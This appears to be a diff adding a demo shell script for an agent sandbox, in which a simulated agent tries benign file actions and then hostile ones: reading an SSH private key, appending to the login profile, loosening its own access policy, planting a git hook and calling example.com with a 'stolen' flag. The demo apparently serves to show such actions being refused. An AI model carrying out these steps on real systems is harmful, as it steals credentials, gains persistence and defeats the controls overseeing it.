@@ -1,0 +1,31 @@
+# What the demo's agent does: some of it is allowed, some of it is not.
+try() {
+    printf '\nagent: %s\n' "$1"
+    shift
+    if "$@"; then printf '  -> it happened\n'; else printf '  -> refused\n'; fi
+}
+
+read_readme() { cat README; }
+write_file() { echo 'first draft' > notes.txt; }
+rename_file() { mv notes.txt report.txt; }
+read_key() { cat "$HOME/.ssh/id_ed25519"; }
+plant_start_file() { echo 'echo gotcha' >> "$HOME/.profile"; }
+loosen_policy() { echo 'permit(principal, action, resource);' >> .ringfence/policy.cedar; }
+plant_hook() { mkdir -p .git/hooks && echo 'echo gotcha' > .git/hooks/post-commit; }
+phone_home() {
+    if command -v curl > /dev/null; then
+        curl --silent --show-error --max-time 5 http://example.com/?stolen=1
+    else
+        python3 -c 'import urllib.request as u; u.urlopen("http://example.com/?stolen=1", timeout=5)'
+    fi
+}
+
+try 'I read the project' read_readme
+try 'I write a file' write_file
+try 'I rename it' rename_file
+try 'I read a private key' read_key
+try 'I add a line to what your shell runs at login' plant_start_file
+try 'I loosen my own policy' loosen_policy
+try 'I plant a git hook' plant_hook
+try 'I send something to a stranger' phone_home
+exit 0
